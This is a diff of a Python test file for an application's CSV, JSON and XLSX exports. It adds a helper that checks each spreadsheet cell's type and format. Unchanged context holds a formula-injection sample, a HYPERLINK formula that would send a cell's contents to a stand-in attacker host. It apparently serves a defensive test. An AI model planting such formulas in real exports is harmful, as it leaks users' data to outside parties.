@@ -7,7 +7,7 @@ import io
 import json
 import sys
 import zipfile
-from datetime import datetime
+from datetime import date, datetime, timedelta
 from decimal import Decimal
 from pathlib import Path
 from typing import Any
@@ -17,7 +17,7 @@ import pytest
 import sqlalchemy as sa
 from openpyxl import load_workbook
 
-from handlers.export import DATE_FORMAT, DATETIME_FORMAT, EUROS_FORMAT, WHAT
+from handlers.export import COLUMNS, DATE_FORMAT, DATETIME_FORMAT, EUROS_FORMAT, WHAT
 from tests.test_cli import database, incubot  # noqa: F401 - the fixture, and the CLI in this process
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez")'
@@ -38,6 +38,26 @@ def xlsx_rows(path: Path) -> tuple[list[str], list[list[Any]], Any]:
     return [c.value for c in rows[0]], rows[1:], sheet
 
 
+def same_cell(cell: Any, kind: str, expected: Any) -> None:
+    """An XLSX cell holds, typed, what the JSON export says."""
+    if expected == "":
+        assert cell.value is None
+    elif kind == "euros":
+        assert isinstance(cell.value, int | float) and cell.number_format == EUROS_FORMAT
+        assert Decimal(str(cell.value)).quantize(Decimal("0.01")) == Decimal(expected)
+    elif kind == "date":
+        assert isinstance(cell.value, datetime) and cell.number_format == DATE_FORMAT
+        assert cell.value.date() == date.fromisoformat(expected)
+    elif kind == "datetime":
+        paris = datetime.fromisoformat(expected).astimezone(ZoneInfo("Europe/Paris")).replace(tzinfo=None)
+        assert isinstance(cell.value, datetime) and cell.number_format == DATETIME_FORMAT
+        assert abs(cell.value - paris) < timedelta(milliseconds=1)
+    elif kind == "int":
+        assert cell.value == expected and isinstance(cell.value, int)
+    else:
+        assert cell.value == expected and cell.data_type == "s"
+
+
 @pytest.mark.parametrize("what", WHAT)
 def test_each_export_says_the_same_in_csv_json_and_xlsx(database: str, capsys: pytest.CaptureFixture[str],  # noqa: F811
                                                         tmp_path: Path, what: str) -> None:
@@ -51,24 +71,15 @@ def test_each_export_says_the_same_in_csv_json_and_xlsx(database: str, capsys: p
     assert as_csv == [{k: str(v) for k, v in row.items()} for row in as_json]
 
     header, rows, sheet = xlsx_rows(export(capsys, tmp_path, what, "xlsx"))
-    assert header == list(as_json[0])
+    assert header == list(as_json[0]) == [c.name for c in COLUMNS[what]]
     assert sheet.freeze_panes == "A2" and sheet["A1"].font.b
     assert all(sheet.column_dimensions[c].width and sheet.column_dimensions[c].width >= 8 for c in "ABCDE")
     assert len(rows) == len(as_json)
-    amounts = [name for name in header if name in ("amount", "amount_ttc", "certified")]
-    assert amounts
+    kinds = {c.name: c.kind for c in COLUMNS[what]}
+    assert {"euros", "datetime"} <= set(kinds.values())
     for row, expected in zip(rows, as_json, strict=True):
-        cells = dict(zip(header, row, strict=True))
-        for name in amounts:
-            cell = cells[name]
-            assert isinstance(cell.value, int | float) and cell.number_format == EUROS_FORMAT
-            assert Decimal(str(cell.value)).quantize(Decimal("0.01")) == Decimal(expected[name])
-        submitted = cells["submitted_at"]
-        assert isinstance(submitted.value, datetime) and submitted.number_format == DATETIME_FORMAT
-        paris = datetime.fromisoformat(expected["submitted_at"]).astimezone(ZoneInfo("Europe/Paris"))
-        assert submitted.value == paris.replace(tzinfo=None, microsecond=submitted.value.microsecond)
-        assert cells["reference"].value == expected["reference"] and cells["reference"].data_type == "s"
-    assert DATE_FORMAT == "dd/mm/yyyy"
+        for name, cell in zip(header, row, strict=True):
+            same_cell(cell, kinds[name], expected[name])
 
 
 def test_the_euro_format_shows_french_figures() -> None:
